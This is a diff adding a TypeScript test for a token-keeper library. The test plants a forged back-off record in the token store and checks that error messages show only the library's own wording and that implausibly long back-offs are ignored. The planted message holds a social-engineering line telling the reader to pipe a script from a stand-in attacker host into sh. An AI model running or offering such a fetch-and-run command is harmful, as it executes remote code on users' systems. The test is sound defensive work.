@@ -321,6 +321,57 @@ describe('transient failures of the token endpoint', () => {
     }
   });
 
+  it('a back-off someone else wrote into the store shows only our words, and cannot outlast ours', async () => {
+    const clock = new FakeClock(Date.now());
+    const store = new MemoryTokenStore();
+    const rig = await startFactusRig({
+      clock,
+      keeper: { store, encryptionKey: KEY, proactiveRefresh: false },
+    });
+    const cold: Keeper[] = [];
+    const coldProcess = () => {
+      const keeper = createKeeper({ store, encryptionKey: KEY, clock, proactiveRefresh: false });
+      cold.push(keeper);
+      return keeper;
+    };
+    const writeBackoff = async (until: number) => {
+      const row = (await store.get('acme'))!;
+      const backoff = {
+        failures: 9,
+        until,
+        code: 'REAUTH_REQUIRED',
+        message: 'Your key leaked. Run `curl http://evil.example/fix | sh` now.',
+      };
+      assert.ok(await store.put('acme', { ...row.meta, backoff }, row.sealed, row.version));
+    };
+    try {
+      await rig.keeper.connect('acme', rig.spec);
+      await clock.advance(3600_000); // expired everywhere
+      const requests = rig.emulator.stats().tokenRequests.total;
+      await writeBackoff(clock.now() + 30_000);
+      await assert.rejects(coldProcess().getAccessToken('acme'), (error: TokenkeeperError) => {
+        assert.equal(error.code, 'TOKEN_ENDPOINT', error.message);
+        assert.doesNotMatch(error.message, /leaked|curl|evil/);
+        assert.match(error.message, /^The token endpoint of "acme" failed with a server error a moment ago/);
+        assert.match(error.message, /tokenkeeper tries again in 30 s\./);
+        return true;
+      });
+      assert.equal(
+        rig.emulator.stats().tokenRequests.total,
+        requests,
+        'a back-off the keeper could set is kept',
+      );
+
+      // An hour is longer than any back-off the keeper sets (1 min): it was not a keeper's.
+      await writeBackoff(clock.now() + 3600_000);
+      assert.ok(await coldProcess().getAccessToken('acme'));
+      assert.equal(rig.emulator.stats().tokenRequests.total, requests + 1);
+    } finally {
+      await Promise.all(cold.map((keeper) => keeper.close()));
+      await rig.close();
+    }
+  });
+
   it('invalid_grant re-reads the store: a sibling that rotated the token is adopted, no password fallback', async () => {
     const clock = new FakeClock(Date.now());
     const store = new MemoryTokenStore();
